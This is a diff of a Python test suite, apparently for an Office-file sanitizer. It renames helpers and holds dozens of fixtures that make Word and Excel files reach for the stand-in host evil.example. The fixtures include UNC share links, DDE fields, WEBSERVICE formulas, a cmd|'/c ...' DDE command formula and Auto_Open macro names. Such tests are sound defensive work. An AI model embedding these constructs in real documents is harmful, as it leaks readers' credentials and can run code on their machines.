@@ -19,15 +19,15 @@ from dialogues.files.sanitizers import excel_formulas
 from dialogues.files.sanitizers.errors import FileRejected
 from dialogues.files.sanitizers.file_types import sanitize_file
 from dialogues.files.sanitizers.office_markup import VOCABULARY
-from tests.dialogues import samples
+from tests.dialogues import sample_files
 
 FILES = int(os.environ.get("MUTATED_FILES", "200")) // 2
 
-MARK = "evil.example"
+HOST = "evil.example"
 """Stands in whatever a hostile file would reach for."""
-SHARE = rf"\\{MARK}\share\a"
+SHARE = rf"\\{HOST}\share\a"
 OFFICE = "http://schemas.openxmlformats.org"
-SPACES = {
+NAMESPACES = {
     "w": f"{OFFICE}/wordprocessingml/2006/main",
     "r": f"{OFFICE}/officeDocument/2006/relationships",
     "a": f"{OFFICE}/drawingml/2006/main",
@@ -40,33 +40,33 @@ SPACES = {
     "asvg": "http://schemas.microsoft.com/office/drawing/2016/SVG/main",
     "w15": "http://schemas.microsoft.com/office/word/2012/wordml",
 }
-SAID = " ".join(f'xmlns:{prefix}="{space}"' for prefix, space in SPACES.items())
+XMLNS = " ".join(f'xmlns:{prefix}="{space}"' for prefix, space in NAMESPACES.items())
 SHEET = f"{OFFICE}/spreadsheetml/2006/main"
 
 
-def word(body, *rows, **more):
-    """A document of this body, which draws on `rows` (see samples.relations)."""
-    return samples.docx(
+def word_with_body(body, *rows, **more):
+    """A document of this body, which draws on `rows` (see sample_files.relations)."""
+    return sample_files.docx(
         **{
-            "word/document.xml": f"<w:document {SAID}><w:body>{body}</w:body></w:document>",
-            "word/_rels/document.xml.rels": samples.relations(*rows),
+            "word/document.xml": f"<w:document {XMLNS}><w:body>{body}</w:body></w:document>",
+            "word/_rels/document.xml.rels": sample_files.relationships_part(*rows),
         }
         | more
     )
 
 
-def settings(inside, *rows):
-    return word(
+def word_with_settings(inside, *rows):
+    return word_with_body(
         "<w:p/>",
         ("settings", "settings.xml"),
         **{
-            "word/settings.xml": f"<w:settings {SAID}>{inside}</w:settings>",
-            "word/_rels/settings.xml.rels": samples.relations(*rows),
+            "word/settings.xml": f"<w:settings {XMLNS}>{inside}</w:settings>",
+            "word/_rels/settings.xml.rels": sample_files.relationships_part(*rows),
         },
     )
 
 
-def runs(*pieces):
+def run_paragraph(*pieces):
     """A paragraph of runs: "{", "|" and "}" begin, part and end a field, "<" begins markup, all else is code."""
     marks = {"{": "begin", "|": "separate", "}": "end"}
     said = ""
@@ -78,15 +78,15 @@ def runs(*pieces):
     return f"<w:p>{said}</w:p>"
 
 
-def field(*pieces):
-    return word(runs("{", *pieces, "|", "<w:r><w:t>Here</w:t></w:r>", "}"))
+def word_with_field(*pieces):
+    return word_with_body(run_paragraph("{", *pieces, "|", "<w:r><w:t>Here</w:t></w:r>", "}"))
 
 
-def plain(text):
+def text_run(text):
     return f"<w:r><w:t>{text}</w:t></w:r>"
 
 
-def box(inside):
+def text_box(inside):
     """A box of text, which stands beside the text around it."""
     return (
         f"<w:r><w:pict><v:shape><v:textbox><w:txbxContent>{inside}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
@@ -95,58 +95,58 @@ def box(inside):
 
 def excel(cells="", after="", names="", rows=(), **more):
     """A workbook whose sheet "One" has these cells, and more of the sheet after them."""
-    return samples.xlsx(
+    return sample_files.xlsx(
         **{
             "xl/workbook.xml": (
-                f'<workbook xmlns="{SHEET}" {SAID}><sheets><sheet name="One" sheetId="1" r:id="r0"/></sheets>'
+                f'<workbook xmlns="{SHEET}" {XMLNS}><sheets><sheet name="One" sheetId="1" r:id="r0"/></sheets>'
                 f"<definedNames>{names}</definedNames></workbook>"
             ),
             "xl/worksheets/sheet1.xml": (
-                f'<worksheet xmlns="{SHEET}" {SAID}><sheetData><row r="4">{cells}</row></sheetData>{after}</worksheet>'
+                f'<worksheet xmlns="{SHEET}" {XMLNS}><sheetData><row r="4">{cells}</row></sheetData>{after}</worksheet>'
             ),
-            "xl/worksheets/_rels/sheet1.xml.rels": samples.relations(*rows),
+            "xl/worksheets/_rels/sheet1.xml.rels": sample_files.relationships_part(*rows),
         }
         | more
     )
 
 
-def formula(text):
+def workbook_with_formula(text):
     return excel(f'<c r="B4"><f>{escape(text)}</f><v>1</v></c>')
 
 
-def drawing(inside, *rows):
+def workbook_with_drawing(inside, *rows):
     return excel(
         after='<drawing r:id="r0"/>',
         rows=[("drawing", "../drawings/drawing1.xml")],
         **{
-            "xl/drawings/drawing1.xml": f"<xdr:wsDr {SAID}>{inside}</xdr:wsDr>",
-            "xl/drawings/_rels/drawing1.xml.rels": samples.relations(*rows),
-            "xl/media/a.png": samples.PNG,
+            "xl/drawings/drawing1.xml": f"<xdr:wsDr {XMLNS}>{inside}</xdr:wsDr>",
+            "xl/drawings/_rels/drawing1.xml.rels": sample_files.relationships_part(*rows),
+            "xl/media/a.png": sample_files.PNG,
         },
     )
 
 
-def old_drawing(inside):
+def workbook_with_vml(inside):
     return excel(
         after='<legacyDrawing r:id="r0"/>',
         rows=[("vmlDrawing", "../drawings/vmlDrawing1.vml")],
-        **{"xl/drawings/vmlDrawing1.vml": f"<xml {SAID}>{inside}</xml>"},
+        **{"xl/drawings/vmlDrawing1.vml": f"<xml {XMLNS}>{inside}</xml>"},
     )
 
 
-def chart(inside, *rows):
-    frame = f'<a:graphicData uri="{SPACES["c"]}"><c:chart r:id="r0"/></a:graphicData>'
-    return word(
+def word_with_chart(inside, *rows):
+    frame = f'<a:graphicData uri="{NAMESPACES["c"]}"><c:chart r:id="r0"/></a:graphicData>'
+    return word_with_body(
         f"<w:drawing>{frame}</w:drawing>",
         ("chart", "charts/chart1.xml"),
         **{
-            "word/charts/chart1.xml": f"<c:chartSpace {SAID}><c:chart/>{inside}</c:chartSpace>",
-            "word/charts/_rels/chart1.xml.rels": samples.relations(*rows),
+            "word/charts/chart1.xml": f"<c:chartSpace {XMLNS}><c:chart/>{inside}</c:chartSpace>",
+            "word/charts/_rels/chart1.xml.rels": sample_files.relationships_part(*rows),
         },
     )
 
 
-def content_of(copy):
+def readable_content(copy):
     """All that a copy says, as a reader reads it."""
     with zipfile.ZipFile(io.BytesIO(copy)) as archive:
         parts = {name: archive.read(name) for name in archive.namelist()}
@@ -160,49 +160,49 @@ def content_of(copy):
 
 REFUSED = {
     # Word, fields: Word asks the server named in them for the file, with the reader's own account.
-    "a link to a share": field(rf' HYPERLINK "\\\\{MARK}\\share\\a"'),
-    "a link to a share with single backslashes": field(rf' HYPERLINK "{SHARE}"'),
-    "a link to a share without quotation marks": field(rf"HYPERLINK {SHARE}"),
-    "a link to a share right behind the name": field(rf'HYPERLINK"{SHARE}"'),
-    "a link to a share in lower case, with odd spaces": field(f'\t hyperlink \u00a0\t "{SHARE}" '),
-    "a link to a share in curly quotation marks": field(f"HYPERLINK “{SHARE}”"),
-    "a link to a share behind a place": field(rf'HYPERLINK \l "x" "{SHARE}"'),
-    "a link to a share behind another address": field(rf'HYPERLINK "https://a.example" "{SHARE}"'),
-    "a link to a share with slashes": field(f'HYPERLINK "//{MARK}/share"'),
-    "a link to a share by http with backslashes": field(rf'HYPERLINK "http:\\{MARK}@SSL\a"'),
-    "a link to a file": field(f'HYPERLINK "file://{MARK}/a"'),
-    "a link to a file in the middle of a word": field("HYPER", 'LINK "fi', f'le://{MARK}/a"'),
-    "a link to a program": field(f'HYPERLINK "ms-word:ofe|u|https://{MARK}/a"'),
-    "a link whose address another field spells": field("HYPERLINK ", "{", f'QUOTE "{SHARE}"', "}"),
-    "a link whose address is the value of a bookmark": field("HYPERLINK ", "{", "REF where", "}"),
-    "a simple link": word(f"<w:fldSimple w:instr=' HYPERLINK \"{SHARE}\" '/>"),
-    "a field whose name another spells": field("{", "QUOTE 68 68 69", "}", f"AUTO {MARK}"),
-    "a field whose name a simple one spells": field(
-        '<w:fldSimple w:instr="QUOTE DDE"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>', f"AUTO {MARK}"
+    "a link to a share": word_with_field(rf' HYPERLINK "\\\\{HOST}\\share\\a"'),
+    "a link to a share with single backslashes": word_with_field(rf' HYPERLINK "{SHARE}"'),
+    "a link to a share without quotation marks": word_with_field(rf"HYPERLINK {SHARE}"),
+    "a link to a share right behind the name": word_with_field(rf'HYPERLINK"{SHARE}"'),
+    "a link to a share in lower case, with odd spaces": word_with_field(f'\t hyperlink \u00a0\t "{SHARE}" '),
+    "a link to a share in curly quotation marks": word_with_field(f"HYPERLINK “{SHARE}”"),
+    "a link to a share behind a place": word_with_field(rf'HYPERLINK \l "x" "{SHARE}"'),
+    "a link to a share behind another address": word_with_field(rf'HYPERLINK "https://a.example" "{SHARE}"'),
+    "a link to a share with slashes": word_with_field(f'HYPERLINK "//{HOST}/share"'),
+    "a link to a share by http with backslashes": word_with_field(rf'HYPERLINK "http:\\{HOST}@SSL\a"'),
+    "a link to a file": word_with_field(f'HYPERLINK "file://{HOST}/a"'),
+    "a link to a file in the middle of a word": word_with_field("HYPER", 'LINK "fi', f'le://{HOST}/a"'),
+    "a link to a program": word_with_field(f'HYPERLINK "ms-word:ofe|u|https://{HOST}/a"'),
+    "a link whose address another field spells": word_with_field("HYPERLINK ", "{", f'QUOTE "{SHARE}"', "}"),
+    "a link whose address is the value of a bookmark": word_with_field("HYPERLINK ", "{", "REF where", "}"),
+    "a simple link": word_with_body(f"<w:fldSimple w:instr=' HYPERLINK \"{SHARE}\" '/>"),
+    "a field whose name another spells": word_with_field("{", "QUOTE 68 68 69", "}", f"AUTO {HOST}"),
+    "a field whose name a simple one spells": word_with_field(
+        '<w:fldSimple w:instr="QUOTE DDE"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>', f"AUTO {HOST}"
     ),
-    "a field that begins as another one": field("DATE", "{", "QUOTE x", "}", f" {MARK}"),
-    "a field half of which is ordinary text": field("INCLUDE", plain(f"PICTURE {MARK}")),
-    "a field all of which is ordinary text": field(plain(f"DDEAUTO {MARK}")),
-    "a field half of which stands in a box beside it": field(
-        f"<w:r>{box('<w:p><w:r><w:instrText>KEYWO</w:instrText></w:r></w:p>')}</w:r>", "RD", f" {MARK}"
+    "a field that begins as another one": word_with_field("DATE", "{", "QUOTE x", "}", f" {HOST}"),
+    "a field half of which is ordinary text": word_with_field("INCLUDE", text_run(f"PICTURE {HOST}")),
+    "a field all of which is ordinary text": word_with_field(text_run(f"DDEAUTO {HOST}")),
+    "a field half of which stands in a box beside it": word_with_field(
+        f"<w:r>{text_box('<w:p><w:r><w:instrText>KEYWO</w:instrText></w:r></w:p>')}</w:r>", "RD", f" {HOST}"
     ),
-    "a link half of which stands in a box beside it": field(
-        'HYPERLINK "', box(plain("https://a.example")), f'//{MARK}"'
+    "a link half of which stands in a box beside it": word_with_field(
+        'HYPERLINK "', text_box(text_run("https://a.example")), f'//{HOST}"'
     ),
-    "a field that is another one once changes are rejected": field(
-        "<w:ins><w:r><w:instrText>DATE \\@ </w:instrText></w:r></w:ins>", f'"{MARK}"'
+    "a field that is another one once changes are rejected": word_with_field(
+        "<w:ins><w:r><w:instrText>DATE \\@ </w:instrText></w:r></w:ins>", f'"{HOST}"'
     ),
-    "a field that is deleted and can be brought back": field(
-        f"<w:del><w:r><w:delInstrText>INCLUDETEXT {MARK}</w:delInstrText></w:r></w:del>"
+    "a field that is deleted and can be brought back": word_with_field(
+        f"<w:del><w:r><w:delInstrText>INCLUDETEXT {HOST}</w:delInstrText></w:r></w:del>"
     ),
-    "a field that has no end": word(runs("{", f'INCLUDEPICTURE "https://{MARK}/a" \\d')),
-    "a field in a heading of the page": word(
+    "a field that has no end": word_with_body(run_paragraph("{", f'INCLUDEPICTURE "https://{HOST}/a" \\d')),
+    "a field in a heading of the page": word_with_body(
         '<w:sectPr><w:headerReference r:id="r0"/></w:sectPr>',
         ("header", "header1.xml"),
-        **{"word/header1.xml": f"<w:hdr {SAID}>{runs('{', f'INCLUDETEXT {MARK}', '}')}</w:hdr>"},
+        **{"word/header1.xml": f"<w:hdr {XMLNS}>{run_paragraph('{', f'INCLUDETEXT {HOST}', '}')}</w:hdr>"},
     ),
     **{
-        f"the field {name}": field(f' {name} "{SHARE}" ')
+        f"the field {name}": word_with_field(f' {name} "{SHARE}" ')
         for name in (
             "AUTOTEXT",
             "CONTROL",
@@ -225,61 +225,65 @@ REFUSED = {
         )
     },
     # Word, other.
-    "a picture that is fetched": word('<a:blip r:link="r0"/>', ("hyperlink", f"https://{MARK}/", "External")),
-    "an old picture that is fetched": word(f'<w:pict><v:imagedata src="{SHARE}"/></w:pict>'),
-    "an old picture that a reference fetches": word(f'<w:pict><v:imagedata o:href="{SHARE}"/></w:pict>'),
-    "a document inside the document": word('<w:altChunk r:id="r0"/>', ("aFChunk", "a.xml"), **{"word/a.xml": "<a/>"}),
-    "a part of a document that lies elsewhere": word('<w:subDoc r:id="r0"/>', ("subDocument", SHARE, "External")),
-    "an object of another program": word('<w:object><o:OLEObject r:id="r0"/></w:object>'),
-    "a control that runs": word('<w:control r:id="r0"/>', ("control", "a.xml"), **{"word/a.xml": "<a/>"}),
-    "a link of the file's own to a share": word('<w:hyperlink r:id="r0"/>', ("hyperlink", SHARE, "External")),
-    "a link by http with backslashes": word("<w:p/>", ("hyperlink", rf"http:\\{MARK}\a", "External")),
+    "a picture that is fetched": word_with_body('<a:blip r:link="r0"/>', ("hyperlink", f"https://{HOST}/", "External")),
+    "an old picture that is fetched": word_with_body(f'<w:pict><v:imagedata src="{SHARE}"/></w:pict>'),
+    "an old picture that a reference fetches": word_with_body(f'<w:pict><v:imagedata o:href="{SHARE}"/></w:pict>'),
+    "a document inside the document": word_with_body(
+        '<w:altChunk r:id="r0"/>', ("aFChunk", "a.xml"), **{"word/a.xml": "<a/>"}
+    ),
+    "a part of a document that lies elsewhere": word_with_body(
+        '<w:subDoc r:id="r0"/>', ("subDocument", SHARE, "External")
+    ),
+    "an object of another program": word_with_body('<w:object><o:OLEObject r:id="r0"/></w:object>'),
+    "a control that runs": word_with_body('<w:control r:id="r0"/>', ("control", "a.xml"), **{"word/a.xml": "<a/>"}),
+    "a link of the file's own to a share": word_with_body('<w:hyperlink r:id="r0"/>', ("hyperlink", SHARE, "External")),
+    "a link by http with backslashes": word_with_body("<w:p/>", ("hyperlink", rf"http:\\{HOST}\a", "External")),
     # Excel: the formula asks when the workbook is opened or reckoned anew.
     **{
-        f"the formula {text}": formula(text)
+        f"the formula {text}": workbook_with_formula(text)
         for text in (
-            f'HYPERLINK("file://{MARK}/a","x")',
+            f'HYPERLINK("file://{HOST}/a","x")',
             f'HYPERLINK("{SHARE}")',
             'HYPERLINK(A1,"x")',
-            f'HYPERLINK("http:"&"//{MARK}")',
-            f'IMPORTCSV("https://{MARK}/a")',
-            f'_xlfn.IMPORTTEXT("https://{MARK}")',
-            f'_xlfn.WEBSERVICE("https://{MARK}")',
-            f'webservice ("https://{MARK}")',
-            f'_xlfn.IMAGE("https://{MARK}")',
+            f'HYPERLINK("http:"&"//{HOST}")',
+            f'IMPORTCSV("https://{HOST}/a")',
+            f'_xlfn.IMPORTTEXT("https://{HOST}")',
+            f'_xlfn.WEBSERVICE("https://{HOST}")',
+            f'webservice ("https://{HOST}")',
+            f'_xlfn.IMAGE("https://{HOST}")',
             f"'{SHARE}\\[b.xlsx]One'!A1",
-            f"[1]One!A1+{MARK}",
-            f"'file:///{MARK}/b.ods'#$One.A1",
-            f"cmd|'/c {MARK}'!A0",
+            f"[1]One!A1+{HOST}",
+            f"'file:///{HOST}/b.ods'#$One.A1",
+            f"cmd|'/c {HOST}'!A0",
             f"INDIRECT(\"'{SHARE}[b.xlsx]One'!A1\")",
-            f'RTD("{MARK}",,"a")',
-            f'CALL("{MARK}","a","J")',
-            f'SQL.REQUEST("{MARK}")',
-            f'CUBEVALUE("{MARK}","a")',
-            f'_xlfn.STOCKHISTORY("{MARK}")',
-            f'_xludf.FETCH("{MARK}")',
-            f'EXEC("{MARK}")',
-            f'Fetch("{MARK}")',
-            f'_xlfn.MAP(A1:A2,_xlfn._xleta.WEBSERVICE)&"{MARK}"',
-            f'DDE("{MARK}","a","b")',
-            f'FILTERXML("{MARK}","a")',
-            f'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""{MARK}"",""A1"")"),1)',
-            f'Other!A1&"{MARK}"',
-            f'ORG.OPENOFFICE.STYLE("{MARK}")',
-            f"'a|{MARK}'!A1",
-            f'Cases[a"b]&WEBSERVICE("https://{MARK}")',
+            f'RTD("{HOST}",,"a")',
+            f'CALL("{HOST}","a","J")',
+            f'SQL.REQUEST("{HOST}")',
+            f'CUBEVALUE("{HOST}","a")',
+            f'_xlfn.STOCKHISTORY("{HOST}")',
+            f'_xludf.FETCH("{HOST}")',
+            f'EXEC("{HOST}")',
+            f'Fetch("{HOST}")',
+            f'_xlfn.MAP(A1:A2,_xlfn._xleta.WEBSERVICE)&"{HOST}"',
+            f'DDE("{HOST}","a","b")',
+            f'FILTERXML("{HOST}","a")',
+            f'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""{HOST}"",""A1"")"),1)',
+            f'Other!A1&"{HOST}"',
+            f'ORG.OPENOFFICE.STYLE("{HOST}")',
+            f"'a|{HOST}'!A1",
+            f'Cases[a"b]&WEBSERVICE("https://{HOST}")',
         )
     },
-    "a name that asks": excel(names=f'<definedName name="a">_xlfn.WEBSERVICE("https://{MARK}")</definedName>'),
+    "a name that asks": excel(names=f'<definedName name="a">_xlfn.WEBSERVICE("https://{HOST}")</definedName>'),
     "a name of another workbook": excel(names=f"<definedName name=\"a\">'{SHARE}[b.xlsx]One'!$A$1</definedName>"),
     "a name that runs": excel(names='<definedName name="_xlnm.Auto_Open">One!$A$1</definedName>'),
     "a name of a macro": excel(names='<definedName name="a" xlm="1" function="1">One!$A$1</definedName>'),
     "a rule of formatting that asks": excel(
-        after=f"<conditionalFormatting><cfRule><formula>_xlfn.WEBSERVICE({MARK})</formula></cfRule></conditionalFormatting>"
+        after=f"<conditionalFormatting><cfRule><formula>_xlfn.WEBSERVICE({HOST})</formula></cfRule></conditionalFormatting>"
     ),
     "a threshold that asks": excel(
         after='<conditionalFormatting><cfRule><cfvo type="formula" '
-        f'val="WEBSERVICE({MARK})"/></cfRule></conditionalFormatting>'
+        f'val="WEBSERVICE({HOST})"/></cfRule></conditionalFormatting>'
     ),
     "a column of a table that asks": excel(
         after='<tableParts><tablePart r:id="r0"/></tableParts>',
@@ -287,13 +291,13 @@ REFUSED = {
         **{
             "xl/tables/table1.xml": (
                 f'<table xmlns="{SHEET}"><tableColumns><tableColumn name="a">'
-                f"<calculatedColumnFormula>WEBSERVICE({MARK})</calculatedColumnFormula></tableColumn></tableColumns></table>"
+                f"<calculatedColumnFormula>WEBSERVICE({HOST})</calculatedColumnFormula></tableColumn></tableColumns></table>"
             )
         },
     ),
-    "a box whose text another workbook gives": drawing(f"<xdr:sp textlink=\"'{SHARE}[b.xlsx]One'!A1\"/>"),
-    "a picture of a sheet that is fetched": drawing(
-        '<xdr:pic><a:blip r:link="r0"/></xdr:pic>', ("image", f"https://{MARK}/a.png", "External")
+    "a box whose text another workbook gives": workbook_with_drawing(f"<xdr:sp textlink=\"'{SHARE}[b.xlsx]One'!A1\"/>"),
+    "a picture of a sheet that is fetched": workbook_with_drawing(
+        '<xdr:pic><a:blip r:link="r0"/></xdr:pic>', ("image", f"https://{HOST}/a.png", "External")
     ),
     "another workbook, or a program by DDE": excel(rows=[("externalLink", "../externalLinks/externalLink1.xml")]),
     "a database": excel(rows=[("connections", "../connections.xml")]),
@@ -312,129 +316,139 @@ def test_file_that_reaches_for_something_is_refused_and_says_what_to_do(what):
     assert "damaged" not in str(refusal.value)
 
 
-DATABASE = f'<w:connectString w:val="Provider=x;Data Source={MARK}"/><w:query w:val="SELECT {MARK}"/>'
-EXTENSION = '<a:extLst><a:ext uri="a"><asvg:svgBlip r:link="r1" r:embed="r1"/></a:ext></a:extLst>'
-LEFT_OUT = {
-    "a transformation of the file when it is saved": settings(
-        f'<w:saveThroughXslt r:id="r0" w:solutionID="{MARK}"/>', ("transform", f"https://{MARK}/a.xsl", "External")
+MAIL_MERGE = f'<w:connectString w:val="Provider=x;Data Source={HOST}"/><w:query w:val="SELECT {HOST}"/>'
+SVG_EXTENSION = '<a:extLst><a:ext uri="a"><asvg:svgBlip r:link="r1" r:embed="r1"/></a:ext></a:extLst>'
+REMOVED_CONTENT = {
+    "a transformation of the file when it is saved": word_with_settings(
+        f'<w:saveThroughXslt r:id="r0" w:solutionID="{HOST}"/>',
+        ("transform", f"https://{HOST}/a.xsl", "External"),
     ),
-    "a template that is opened with it": settings(
-        '<w:attachedTemplate r:id="r0"/>', ("attachedTemplate", f"https://{MARK}/a.dotm", "External")
+    "a template that is opened with it": word_with_settings(
+        '<w:attachedTemplate r:id="r0"/>', ("attachedTemplate", f"https://{HOST}/a.dotm", "External")
     ),
-    "a database of addresses": settings(
-        f'<w:mailMerge>{DATABASE}<w:dataSource r:id="r0"/></w:mailMerge>', ("mailMergeSource", SHARE, "External")
+    "a database of addresses": word_with_settings(
+        f'<w:mailMerge>{MAIL_MERGE}<w:dataSource r:id="r0"/></w:mailMerge>',
+        ("mailMergeSource", SHARE, "External"),
     ),
-    "a schema": settings(f'<w:attachedSchema w:val="{SHARE}"/>'),
-    "a frame of another page": word(
+    "a schema": word_with_settings(f'<w:attachedSchema w:val="{SHARE}"/>'),
+    "a frame of another page": word_with_body(
         "<w:p/>",
         ("webSettings", "webSettings.xml"),
         **{
             "word/webSettings.xml": (
-                f'<w:webSettings {SAID}><w:frameset><w:frame r:id="r0"/></w:frameset></w:webSettings>'
+                f'<w:webSettings {XMLNS}><w:frameset><w:frame r:id="r0"/></w:frameset></w:webSettings>'
             ),
-            "word/_rels/webSettings.xml.rels": samples.relations(("webSettings", f"https://{MARK}/", "External")),
+            "word/_rels/webSettings.xml.rels": sample_files.relationships_part(
+                ("webSettings", f"https://{HOST}/", "External")
+            ),
         },
     ),
-    "a value from a part that nobody sees": word(
-        f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{MARK}"/><w15:webExtensionLinked/></w:sdtPr></w:sdt>',
+    "a value from a part that nobody sees": word_with_body(
+        f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{HOST}"/><w15:webExtensionLinked/></w:sdtPr></w:sdt>',
         ("customXml", "../customXml/item1.xml"),
-        **{"customXml/item1.xml": f"<a>{MARK}</a>"},
+        **{"customXml/item1.xml": f"<a>{HOST}</a>"},
     ),
-    "the workbook of a chart that lies elsewhere": chart(
+    "the workbook of a chart that lies elsewhere": word_with_chart(
         '<c:externalData r:id="r0"><c:autoUpdate val="1"/></c:externalData>',
-        ("oleObject", f"file://{MARK}/a", "External"),
+        ("oleObject", f"file://{HOST}/a", "External"),
     ),
-    "numbers of a chart that lie elsewhere": chart(f"<c:f>'{SHARE}[b.xlsx]One'!$A$1</c:f>"),
-    "a drawing that is fetched, beside its copy in pixels": word(
-        f'<w:drawing><a:blip r:embed="r0" r:link="r1">{EXTENSION}</a:blip></w:drawing>',
+    "numbers of a chart that lie elsewhere": word_with_chart(f"<c:f>'{SHARE}[b.xlsx]One'!$A$1</c:f>"),
+    "a drawing that is fetched, beside its copy in pixels": word_with_body(
+        f'<w:drawing><a:blip r:embed="r0" r:link="r1">{SVG_EXTENSION}</a:blip></w:drawing>',
         ("image", "media/a.png"),
-        ("hyperlink", f"https://{MARK}/", "External"),
-        **{"word/media/a.png": samples.PNG},
+        ("hyperlink", f"https://{HOST}/", "External"),
+        **{"word/media/a.png": sample_files.PNG},
     ),
-    "an old shape that leads to a file": word(f'<w:pict><v:shape href="file://{MARK}/a" o:href="{SHARE}"/></w:pict>'),
-    "an old shape of a kind that lies elsewhere": word(f'<w:pict><v:shape type="{SHARE}#a"/></w:pict>'),
-    "an old shape whose style fetches": word(f"<w:pict><v:shape style=\"fill:url('{SHARE}')\"/></w:pict>"),
-    "a fill that is fetched": word(f'<w:pict><v:shape><v:fill src="{SHARE}" o:href="{SHARE}"/></v:shape></w:pict>'),
-    "a new drawing in an old one": word(f'<w:pict><v:shape o:gfxdata="{MARK}"/></w:pict>'),
-    "a picture that runs something when pressed": word(
-        f'<w:drawing><a:cNvPr><a:hlinkClick action="ppaction://program?file={MARK}" r:id=""/></a:cNvPr></w:drawing>'
+    "an old shape that leads to a file": word_with_body(
+        f'<w:pict><v:shape href="file://{HOST}/a" o:href="{SHARE}"/></w:pict>'
     ),
-    "a picture that leads somewhere when touched": word(
+    "an old shape of a kind that lies elsewhere": word_with_body(f'<w:pict><v:shape type="{SHARE}#a"/></w:pict>'),
+    "an old shape whose style fetches": word_with_body(f"<w:pict><v:shape style=\"fill:url('{SHARE}')\"/></w:pict>"),
+    "a fill that is fetched": word_with_body(
+        f'<w:pict><v:shape><v:fill src="{SHARE}" o:href="{SHARE}"/></v:shape></w:pict>'
+    ),
+    "a new drawing in an old one": word_with_body(f'<w:pict><v:shape o:gfxdata="{HOST}"/></w:pict>'),
+    "a picture that runs something when pressed": word_with_body(
+        f'<w:drawing><a:cNvPr><a:hlinkClick action="ppaction://program?file={HOST}" r:id=""/></a:cNvPr></w:drawing>'
+    ),
+    "a picture that leads somewhere when touched": word_with_body(
         '<w:drawing><a:cNvPr><a:hlinkHover r:id="r0"/></a:cNvPr></w:drawing>',
-        ("hyperlink", f"https://{MARK}/", "External"),
+        ("hyperlink", f"https://{HOST}/", "External"),
     ),
-    "a link that leads on from where it leads": word(f'<w:hyperlink w:anchor="a" w:docLocation="{SHARE}"/>'),
-    "what newer programs alone would read": word(
+    "a link that leads on from where it leads": word_with_body(f'<w:hyperlink w:anchor="a" w:docLocation="{SHARE}"/>'),
+    "what newer programs alone would read": word_with_body(
         f'<mc:AlternateContent><mc:Choice Requires="w15"><w:pict><v:imagedata src="{SHARE}"/></w:pict></mc:Choice>'
         "<mc:Fallback><w:p/></mc:Fallback></mc:AlternateContent>"
     ),
-    "what nobody knows": word(
-        f'<n:a xmlns:n="https://{MARK}/" n:b="{SHARE}">{MARK}</n:a><w:p n:c="a" xmlns:n="{MARK}"/>'
+    "what nobody knows": word_with_body(
+        f'<n:a xmlns:n="https://{HOST}/" n:b="{SHARE}">{HOST}</n:a><w:p n:c="a" xmlns:n="{HOST}"/>'
     ),
-    "instructions to a program": word(f'<?mso-application progid="{MARK}"?><!-- {MARK} --><w:p/>'),
+    "instructions to a program": word_with_body(f'<?mso-application progid="{HOST}"?><!-- {HOST} --><w:p/>'),
     "a rule of what may be typed that asks": excel(
-        after=f"<dataValidations><dataValidation><formula1>WEBSERVICE({MARK})</formula1></dataValidation></dataValidations>"
+        after=f"<dataValidations><dataValidation><formula1>WEBSERVICE({HOST})</formula1></dataValidation></dataValidations>"
     ),
     "an extension of a rule that asks": excel(
         after='<extLst><ext uri="a" xmlns:e="http://schemas.microsoft.com/office/excel/2006/main">'
-        f"<e:f>WEBSERVICE({MARK})</e:f></ext></extLst>"
+        f"<e:f>WEBSERVICE({HOST})</e:f></ext></extLst>"
     ),
-    "a box that runs a macro": drawing(f'<xdr:sp macro="[0]!{MARK}" textlink=""/>'),
-    "a note that runs a macro": old_drawing(
-        f'<v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>{MARK}</x:FmlaMacro><x:FmlaLink>{MARK}</x:FmlaLink>'
-        f"<x:DDE>{MARK}</x:DDE><x:Row>1</x:Row></x:ClientData></v:shape>"
+    "a box that runs a macro": workbook_with_drawing(f'<xdr:sp macro="[0]!{HOST}" textlink=""/>'),
+    "a note that runs a macro": workbook_with_vml(
+        f'<v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>{HOST}</x:FmlaMacro><x:FmlaLink>{HOST}</x:FmlaLink>'
+        f"<x:DDE>{HOST}</x:DDE><x:Row>1</x:Row></x:ClientData></v:shape>"
     ),
-    "a note with a page of the web in it": old_drawing(
-        f'<v:shape><v:textbox><div xmlns=""><img src="https://{MARK}/"/></div></v:textbox></v:shape>'
+    "a note with a page of the web in it": workbook_with_vml(
+        f'<v:shape><v:textbox><div xmlns=""><img src="https://{HOST}/"/></div></v:textbox></v:shape>'
     ),
     "a control and what it asks": excel(
-        after=f'<controls><control r:id="r0" name="{MARK}"/></controls>',
+        after=f'<controls><control r:id="r0" name="{HOST}"/></controls>',
         rows=[("ctrlProp", "../ctrlProps/ctrlProp1.xml")],
-        **{"xl/ctrlProps/ctrlProp1.xml": f'<formControlPr fmlaMacro="{MARK}" fmlaLink="[1]One!A1"/>'},
+        **{"xl/ctrlProps/ctrlProp1.xml": f'<formControlPr fmlaMacro="{HOST}" fmlaLink="[1]One!A1"/>'},
     ),
     "a pivot table of a database": excel(
         rows=[("pivotTable", "../pivotTables/pivotTable1.xml")],
         **{
             "xl/pivotTables/pivotTable1.xml": "<a/>",
-            "xl/pivotTables/_rels/pivotTable1.xml.rels": samples.relations(("pivotCacheDefinition", SHARE, "External")),
+            "xl/pivotTables/_rels/pivotTable1.xml.rels": sample_files.relationships_part(
+                ("pivotCacheDefinition", SHARE, "External")
+            ),
         },
     ),
     "a link within the workbook that leads elsewhere": excel(
         after=f'<hyperlinks><hyperlink ref="A1" location="\'{SHARE}[b.xlsx]One\'!A1"/></hyperlinks>'
     ),
     "ranges of other workbooks that are added up": excel(
-        after=f'<dataConsolidate><dataRefs><dataRef r:id="r0" name="{MARK}"/></dataRefs></dataConsolidate>'
+        after=f'<dataConsolidate><dataRefs><dataRef r:id="r0" name="{HOST}"/></dataRefs></dataConsolidate>'
     ),
     "settings of a printer": excel(
         after='<pageSetup r:id="r0"/>',
         rows=[("printerSettings", "../printerSettings/p.bin")],
-        **{"xl/printerSettings/p.bin": MARK.encode()},
+        **{"xl/printerSettings/p.bin": HOST.encode()},
     ),
 }
 
 
